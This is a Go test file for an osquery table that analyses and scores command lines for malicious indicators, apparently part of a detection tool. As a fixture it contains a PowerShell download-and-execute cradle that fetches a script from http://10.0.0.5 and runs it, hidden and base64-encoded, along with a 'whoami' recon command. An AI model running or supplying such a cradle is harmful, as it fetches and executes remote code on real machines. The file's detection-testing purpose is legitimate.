package cmdlinetable

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"reflect"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/osquery/osquery-go/gen/osquery"
	"github.com/osquery/osquery-go/plugin/table"

	"github.com/exechunt/exechunt/tables/analysis"
	"github.com/exechunt/exechunt/tables/tablekit"
)

// encode is PowerShell's -EncodedCommand encoding: base64 of UTF-16LE.
func encode(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(b[2*i:], c)
	}
	return base64.StdEncoding.EncodeToString(b)
}

const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"

var encodedCradle = "powershell.exe -nop -w hidden -enc " + encode(cradle)

func eq(vals ...string) table.QueryContext {
	cl := table.ConstraintList{Affinity: table.ColumnTypeText}
	for _, v := range vals {
		cl.Constraints = append(cl.Constraints, table.Constraint{Operator: table.OperatorEquals, Expression: v})
	}
	return table.QueryContext{Constraints: map[string]table.ConstraintList{"cmdline": cl}}
}

func TestGenerate(t *testing.T) {
	tbl := New(analysis.New())
	tests := []struct {
		name string
		qc   table.QueryContext
		want []map[string]string // only the listed columns are compared
	}{
		{name: "no constraint", qc: table.QueryContext{}, want: nil},
		{name: "LIKE is not pushed down", qc: table.QueryContext{Constraints: map[string]table.ConstraintList{
			"cmdline": {Constraints: []table.Constraint{{Operator: table.OperatorLike, Expression: "%powershell%"}}}}}, want: nil},
		{name: "constraint on another column", qc: table.QueryContext{Constraints: map[string]table.ConstraintList{
			"program": {Constraints: []table.Constraint{{Operator: table.OperatorEquals, Expression: "cmd.exe"}}}}}, want: nil},
		{name: "encoded download cradle", qc: eq(encodedCradle), want: []map[string]string{{
			"cmdline":         encodedCradle,
			"program":         "powershell.exe",
			"family":          "powershell",
			"flags":           "-noprofile,-windowstyle hidden,-encodedcommand",
			"encoded_command": encode(cradle),
			"decoded_command": cradle,
			"urls":            "http://10.0.0.5/a.ps1",
			"ips":             "10.0.0.5",
			"indicators":      "download_cradle,download_execute,encoded_command,hidden_window,invoke_expression,url_direct_ip",
			"score":           "100",
		}}},
		{name: "benign", qc: eq("ls -la /tmp"), want: []map[string]string{{
			"cmdline": "ls -la /tmp", "program": "ls", "family": "other", "flags": "", "encoded_command": "",
			"decoded_command": "", "urls": "", "ips": "", "indicators": "", "score": "0",
		}}},
		{name: "empty command line", qc: eq(""), want: []map[string]string{{
			"cmdline": "", "program": "", "indicators": "", "score": "0", "entropy": "0", "cosine_similarity": "0",
		}}},
		{name: "IN list, duplicates once, in order", qc: eq("cmd.exe /c whoami", "ls -la /tmp", "cmd.exe /c whoami"), want: []map[string]string{
			{"cmdline": "cmd.exe /c whoami", "family": "cmd", "flags": "/c", "indicators": "recon_command", "score": "20"},
			{"cmdline": "ls -la /tmp", "score": "0"},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rows, err := tbl.Generate(context.Background(), tt.qc)
			if err != nil {
				t.Fatal(err)
			}
			if len(rows) != len(tt.want) {
				t.Fatalf("got %d rows, want %d: %v", len(rows), len(tt.want), rows)
			}
			for i, want := range tt.want {
				if len(rows[i]) != len(tbl.Columns) {
					t.Errorf("row %d has %d columns, want %d", i, len(rows[i]), len(tbl.Columns))
				}
				for k, v := range want {
					if got, ok := rows[i][k]; !ok || got != v {
						t.Errorf("row %d: %s = %q, want %q", i, k, got, v)
					}
				}
			}
		})
	}
}

func TestColumns(t *testing.T) {
	tbl := New(analysis.New())
	var names []string
	for _, c := range tbl.Columns {
		names = append(names, c.Name)
		if c.Description == "" {
			t.Errorf("column %s has no description", c.Name)
		}
		wantType := table.ColumnTypeText
		switch c.Name {
		case "score":
			wantType = table.ColumnTypeInteger
		case "entropy", "cosine_similarity":
			wantType = table.ColumnTypeDouble
		}
		if c.Type != wantType {
			t.Errorf("%s: type %s, want %s", c.Name, c.Type, wantType)
		}
		if c.Required != (c.Name == "cmdline") || c.Index || c.Hidden {
			t.Errorf("%s: options %+v", c.Name, c)
		}
	}
	want := []string{"cmdline", "program", "family", "flags", "encoded_command", "decoded_command", "urls", "ips",
		"indicators", "score", "entropy", "cosine_similarity"}
	if !reflect.DeepEqual(names, want) {
		t.Errorf("columns = %v, want %v", names, want)
	}
	if tbl.Name != "command_line_analysis" || tbl.Description == "" {
		t.Errorf("name %q, description %q", tbl.Name, tbl.Description)
	}
}

// The vector configured in the Analyzer reaches cosine_similarity.
func TestVector(t *testing.T) {
	for _, tt := range []struct {
		name string
		a    *analysis.Analyzer
		zero bool
	}{
		{"default vector", analysis.New(), false},
		{"zero vector", analysis.New(analysis.WithVector(make([]float64, analysis.VectorLen))), true},
	} {
		rows, err := New(tt.a).Generate(context.Background(), eq("powershell -c Get-Process"))
		if err != nil || len(rows) != 1 {
			t.Fatalf("%s: %v %v", tt.name, rows, err)
		}
		if got := rows[0]["cosine_similarity"]; (got == "0") != tt.zero {
			t.Errorf("%s: cosine_similarity = %s", tt.name, got)
		}
	}
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := New(analysis.New()).Generate(ctx, eq("a", "b")); err == nil {
		t.Error("a cancelled generate must fail")
	}
}

// Through the osquery-go plugin, with the query context JSON osquery core sends.
func TestPluginCall(t *testing.T) {
	p := tablekit.Plugin(New(analysis.New()), tablekit.Options{})
	ctxJSON := `{"constraints":[{"name":"cmdline","affinity":"TEXT","list":[{"op":2,"expr":` +
		`"cmd.exe /c whoami"},{"op":2,"expr":"ls"}]}],"colsUsed":["cmdline","score"],"colsUsedBitset":513}`
	resp := p.Call(context.Background(), osquery.ExtensionPluginRequest{"action": "generate", "context": ctxJSON})
	if resp.Status.Code != 0 || len(resp.Response) != 2 || resp.Response[0]["indicators"] != "recon_command" {
		t.Fatalf("status %+v, rows %v", resp.Status, resp.Response)
	}
	resp = p.Call(context.Background(), osquery.ExtensionPluginRequest{"action": "columns"})
	if resp.Status.Code != 0 || len(resp.Response) != 12 || resp.Response[0]["name"] != "cmdline" || resp.Response[0]["op"] != "2" {
		t.Fatalf("columns: %+v %v", resp.Status, resp.Response)
	}
	if !strings.Contains(New(analysis.New()).Description, "cmdline") {
		t.Error("the description should say how to query the table")
	}
}
